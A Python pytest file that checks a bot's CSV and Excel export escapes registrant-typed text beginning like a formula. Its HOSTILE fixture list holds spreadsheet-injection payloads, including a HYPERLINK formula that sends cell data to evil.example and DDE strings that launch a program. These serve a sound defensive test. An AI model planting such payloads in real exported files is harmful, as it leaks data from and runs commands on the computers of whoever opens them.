"""Exported tables: what a registrant typed never becomes a formula (OWASP's CSV-injection
advice), while numbers stay numbers and phone numbers stay readable."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from bot.services.export_tables import Table, neutral, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tcmd",
    "  =1+1",
]


def _table(names: list[str]) -> Table:
    return Table(
        headers=["Name", "Phone", "Booths"],
        kinds=["text", "text", "number"],
        rows=[[name, "+84 912 345 678", 2] for name in names],
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutral(text) == "'" + text
    assert neutral(text, in_workbook=True) == "'" + text


@pytest.mark.parametrize("text", ["Cơ sở gốm Minh Hải", "0912 345 678", "HN-2026-0001", "#12", ""])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutral(text) == text


def test_a_phone_number_reads_as_typed_in_a_workbook_and_safely_in_a_csv() -> None:
    assert neutral("+84 912 345 678", in_workbook=True) == "+84 912 345 678"
    assert neutral("+84 912 345 678") == "'+84 912 345 678"
    assert neutral("+84 912 345 678+HYPERLINK(1)", in_workbook=True).startswith("'")


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(_table(HOSTILE), "Sheet"))).active
    assert isinstance(ws, Worksheet)
    cells = [cell for row in ws.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [row[0].value for row in ws.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed
    assert names == ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert {row[1].value for row in ws.iter_rows(min_row=2)} == {"+84 912 345 678"}
    booths = [row[2] for row in ws.iter_rows(min_row=2)]
    assert all(c.value == 2 and c.data_type == "n" for c in booths)  # numbers stay numbers


def test_no_cell_of_a_csv_starts_like_a_formula() -> None:
    content = to_csv(_table(HOSTILE)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))[1:]
    assert [row[0] for row in rows] == ["'" + text for text in HOSTILE]
    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert {row[1] for row in rows} == {"'+84 912 345 678"}
    assert {row[2] for row in rows} == {"2"}
